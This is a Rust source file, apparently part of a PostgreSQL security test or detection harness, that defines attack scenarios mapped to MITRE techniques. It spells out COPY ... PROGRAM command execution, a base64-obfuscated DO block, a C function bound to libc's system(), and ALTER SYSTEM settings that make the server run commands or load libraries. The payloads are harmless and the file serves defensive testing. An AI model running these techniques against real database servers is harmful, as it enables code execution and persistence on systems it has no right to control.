//! Attacks that run programs or foreign code on the server.

use std::path::Path;

use crate::error::Result;
use crate::scenario::{Scenario, Stage};

pub(super) fn all() -> Vec<Scenario> {
    vec![
        Scenario::attack(
            "copy_program",
            "COPY runs programs on the server, in both directions",
            copy_program,
        )
        .technique(&["T1059"])
        .role("eve_program", "IN ROLE pg_execute_server_program"),
        Scenario::attack(
            "hidden_program",
            "a DO block puts COPY … PROGRAM together from pieces and executes it",
            hidden_program,
        )
        .technique(&["T1059", "T1027"])
        .role("eve_hidden", "SUPERUSER"),
        Scenario::attack(
            "native_function",
            "functions from the C library and untrusted languages are tried",
            native_function,
        )
        .technique(&["T1059", "T1505.001"])
        .role("eve_native", "SUPERUSER"),
        Scenario::attack(
            "program_setting",
            "settings that make the server run programs or load code are changed",
            program_setting,
        )
        .technique(&["T1059", "T1505.001"])
        .role("eve_settings", "SUPERUSER")
        .alone(),
    ]
}

fn copy_program(stage: &Stage<'_>) -> Result<()> {
    stage.connect()?.run_each([
        "CREATE TEMP TABLE output (line text)",
        "COPY output FROM PROGRAM 'id; uname -a'",
        "SELECT line FROM output",
        "COPY (SELECT 'example') TO PROGRAM 'cat > /dev/null'",
    ])
}

fn hidden_program(stage: &Stage<'_>) -> Result<()> {
    stage.connect()?.run_each([
        "DO $$ DECLARE verb text := 'CO' || 'PY'; BEGIN \
         EXECUTE verb || ' (SELECT 1) TO PRO' || 'GRAM ''cat > /dev/null'''; END $$",
        "DO $body$\nDECLARE\n  t text;\nBEGIN\n  CREATE TEMP TABLE out (line text);\n  \
         EXECUTE convert_from(decode('Q09QWSBvdXQgRlJPTSBQUk9HUkFNICdpZCc=', 'base64'), 'UTF8');\n  \
         SELECT line INTO t FROM out LIMIT 1;\n  RAISE NOTICE '%', t;\nEND\n$body$",
    ])
}

fn native_function(stage: &Stage<'_>) -> Result<()> {
    let mut session = stage.connect()?;
    // Not installed here; where they are, the attempt looks the same.
    session.fails("0A000", "CREATE EXTENSION plpython9u")?;
    session.fails(
        "42704",
        "CREATE FUNCTION run(text) RETURNS text LANGUAGE plperlu AS 'return `$_[0]`'",
    )?;
    // A library that is not PostgreSQL's is refused only after it has been loaded.
    let library = format!("/lib/{}-linux-gnu/libc.so.6", std::env::consts::ARCH);
    let refusal = if Path::new(&library).exists() {
        "XX000"
    } else {
        "58P01"
    };
    for attempt in [
        format!(
            "CREATE OR REPLACE FUNCTION system(cstring) RETURNS int AS '{library}', 'system' \
             LANGUAGE C STRICT"
        ),
        format!("LOAD '{library}'"),
    ] {
        session.fails(refusal, &attempt)?;
    }
    Ok(())
}

fn program_setting(stage: &Stage<'_>) -> Result<()> {
    let done = stage.connect()?.run_each([
        "ALTER SYSTEM SET archive_command = 'cp %p /tmp/example && id'",
        "ALTER SYSTEM SET archive_mode = on",
        "ALTER SYSTEM SET ssl_passphrase_command = 'id'",
        "ALTER SYSTEM SET session_preload_libraries = '/tmp/example.so'",
        "ALTER SYSTEM SET shared_preload_libraries = 'pgaudit, /tmp/example.so'",
    ]);
    // Never reloaded: forgotten before it comes into force.
    stage.restore_settings()?;
    done
}
